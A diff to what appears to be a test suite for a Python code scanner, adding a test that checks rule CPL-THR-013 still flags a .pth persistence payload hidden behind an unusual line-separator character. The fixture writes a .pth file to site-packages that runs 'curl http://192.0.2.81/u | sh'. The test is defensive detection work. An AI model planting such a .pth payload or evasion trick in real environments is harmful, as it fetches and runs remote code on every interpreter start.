@@ -524,6 +524,21 @@ def test_a_pth_file_written_with_a_shell_pipe_is_a_pth_payload() -> None:
     assert "CPL-THR-013" in found
 
 
+@pytest.mark.parametrize("separator", ["\\x0c", "\\x1c", "\\u2028"])
+def test_a_pth_payload_written_behind_a_line_separator_is_a_pth_payload(separator: str) -> None:
+    # Attack (scanfuzz): site splits a .pth at newlines and carriage returns only; the
+    # written value was split by str.splitlines, which cut the import line at the
+    # separator inside its string, and the payload after it was not read
+    found = danger(
+        f"""
+        import os, site
+        with open(os.path.join(site.getsitepackages()[0], "x.pth"), "w") as f:
+            f.write("import os; x = '{separator}'; os.system('curl http://192.0.2.81/u | sh')\\n")
+        """
+    )
+    assert "CPL-THR-013" in found
+
+
 def test_a_copy_renamed_to_a_program_and_started_is_a_dropper_and_a_test_copy_is_not() -> None:
     dropper = """
     import os, shutil
